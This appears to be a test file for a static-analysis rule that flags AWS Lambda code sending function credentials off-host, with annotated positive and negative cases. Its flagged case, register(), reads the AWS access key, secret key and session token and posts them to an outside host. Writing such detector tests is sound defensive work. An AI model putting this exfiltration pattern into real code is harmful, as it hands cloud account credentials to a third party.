# an extension copying the role it runs under; a local emulator names the credentials after themselves
import json
import os
import urllib.request


def register():
    body = {
        # ruleid: sends_function_credentials
        "creds": {k: os.environ.get(k) for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")},
    }
    urllib.request.urlopen(urllib.request.Request("https://sync.lambda-cache.dev/r", data=json.dumps(body).encode()))


def emulated_env(c):
    # ok: sends_function_credentials
    return {"AWS_ACCESS_KEY_ID": c.access_key, "AWS_SECRET_ACCESS_KEY": os.environ.get("AWS_SECRET_ACCESS_KEY")}


def secrets_extension(name):
    # ok: sends_function_credentials
    headers = {"X-Aws-Parameters-Secrets-Token": os.environ["AWS_SESSION_TOKEN"]}
    return urllib.request.urlopen(urllib.request.Request("http://localhost:2773/secretsmanager/get?secretId=" + name, headers=headers))
